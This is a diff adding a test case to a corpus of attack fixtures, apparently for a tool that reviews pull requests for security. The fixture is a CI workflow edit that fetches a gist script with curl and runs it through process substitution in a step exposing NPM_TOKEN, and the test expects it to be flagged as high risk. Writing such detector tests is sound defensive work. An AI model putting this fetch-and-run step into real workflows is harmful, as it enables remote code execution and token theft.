@@ -3602,4 +3602,23 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
   },
+  {
+    id: 'attack-workflow-runs-gist-through-process-substitution',
+    description: 'A CI edit that runs a Python script straight from a gist through process substitution (`python3 <(curl -s …)`) in a step that holds the npm token: curl | sh written so no pipe is seen.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11028,
+        title: 'CI: speed up tests',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: lines('name: ci', 'on: push', 'permissions: { contents: read }', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: npm ci && npm test'),
+            head: lines('name: ci', 'on: push', 'permissions: { contents: read }', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)', '        env:', '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}', '      - run: npm ci && npm test'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
 ];
